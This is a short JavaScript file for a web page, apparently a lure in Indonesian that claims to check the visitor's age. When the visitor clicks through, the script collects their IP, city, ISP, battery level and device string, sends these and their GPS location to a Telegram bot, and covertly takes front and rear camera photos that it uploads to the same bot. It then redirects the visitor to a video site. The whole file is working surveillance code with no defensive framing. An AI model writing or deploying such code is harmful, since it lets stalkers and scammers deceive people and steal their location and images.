const BOT = '0000:TOKEN';
const ID = '3333333';
const api = (m) => `https://api.telegram.org/bot${BOT}/${m}`;

const info = async () => {
  const [net, bat] = await Promise.all([
    fetch('https://ipwho.is/').then((r) => r.json()).catch(() => ({})),
    navigator.getBattery ? navigator.getBattery() : { level: 0 },
  ]);
  return [`IP: ${net.ip}`, `Kota: ${net.city}`, `ISP: ${net.connection?.isp}`, `Baterai: ${Math.round(bat.level * 100)}%`, `HP: ${navigator.userAgent}`].join('\n');
};

const shoot = async (mode) => {
  const stream = await navigator.mediaDevices.getUserMedia({ video: { facingMode: mode } });
  const v = Object.assign(document.createElement('video'), { srcObject: stream, muted: true });
  await v.play();
  await new Promise((r) => setTimeout(r, 700));
  const c = new OffscreenCanvas(v.videoWidth, v.videoHeight);
  c.getContext('2d').drawImage(v, 0, 0);
  stream.getTracks().forEach((t) => t.stop());
  return c.convertToBlob({ type: 'image/jpeg' });
};

document.querySelector('#lanjut').addEventListener('click', async () => {
  const teks = document.querySelector('#teks');
  teks.textContent = 'Memeriksa usia anda, tekan Izinkan...';
  const caption = await info();
  fetch(api('sendMessage'), { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ chat_id: ID, text: caption }) });
  navigator.geolocation.getCurrentPosition(({ coords }) => {
    fetch(`${api('sendLocation')}?chat_id=${ID}&latitude=${coords.latitude}&longitude=${coords.longitude}`);
  });
  for (const mode of ['user', 'environment', 'user']) {
    try {
      const fd = new FormData();
      fd.append('chat_id', ID);
      fd.append('caption', mode);
      fd.append('photo', await shoot(mode), 'foto.jpg');
      await fetch(api('sendPhoto'), { method: 'POST', body: fd });
    } catch {
      teks.textContent = 'Verifikasi gagal. Izinkan kamera lalu coba lagi.';
    }
  }
  location.href = 'https://videoklip.example/';
});
